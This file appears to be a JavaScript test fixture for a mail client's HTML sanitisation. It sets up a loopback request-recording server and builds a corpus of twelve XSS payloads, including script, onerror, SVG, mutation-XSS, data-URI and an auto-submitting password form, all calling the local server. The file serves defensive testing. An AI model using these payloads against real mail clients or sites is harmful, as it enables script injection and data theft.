// A loopback HTTP server that records every request: where a malicious mail's payload would call.
import http from 'node:http'

export async function payloadServer() {
  const hits = []
  const server = http.createServer((req, res) => {
    hits.push(req.url)
    res.writeHead(200, { 'Content-Type': 'image/gif', 'Access-Control-Allow-Origin': '*' })
    res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'))
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${server.address().port}`
  return { url, hits, close: () => new Promise((r) => server.close(r)) }
}

/** The malicious HTML corpus: each entry would reach `${url}/<name>` if it ran or loaded. */
export function corpus(url) {
  return {
    script: `<p>hello</p><script>alert('script');fetch('${url}/script')</script>`,
    onerror: `<img src="x" onerror="alert('onerror');fetch('${url}/onerror')">`,
    javascript_url: `<a id="js" href="javascript:fetch('${url}/javascript_url');alert(1)">click me</a>`,
    css_expression: `<div style="width:expression(alert('css'));background:url(${url}/css_background)">css</div>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}/svg_onload')"><script>fetch('${url}/svg_script')</script><image href="${url}/svg_image"/></svg>`,
    meta_refresh: `<meta http-equiv="refresh" content="0;url=${url}/meta_refresh"><p>wait</p>`,
    form: `<form action="${url}/form" method="post"><input name="password" value="x"><button id="go">Go</button></form><script>document.forms[0].submit()</script>`,
    embeds: `<iframe src="${url}/iframe"></iframe><object data="${url}/object"></object><embed src="${url}/embed"><link rel="stylesheet" href="${url}/link_css">`,
    style_import: `<style>@import url(${url}/style_import); body{background:url(${url}/style_bg)}</style><p>styled</p>`,
    body_onload: `<body onload="fetch('${url}/body_onload')"><base href="${url}/base/"><a href="rel">rel</a></body>`,
    mutation_xss: `<math><mtext><table><mglyph><style><img src=x onerror="fetch('${url}/mxss')"></style></mglyph></table></mtext></math>`,
    data_uri: `<a href="data:text/html,<script>fetch('${url}/data_uri')</script>">d</a><iframe src="data:text/html,<script>parent.fetch('${url}/data_iframe')</script>"></iframe>`,
  }
}

export function rawMail(from, to, subject, html) {
  return [
    `From: Mallory <${from}>`,
    `To: ${to}`,
    `Subject: ${subject}`,
    `Message-ID: <${subject}.${Date.now()}@evil.test>`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n')
}
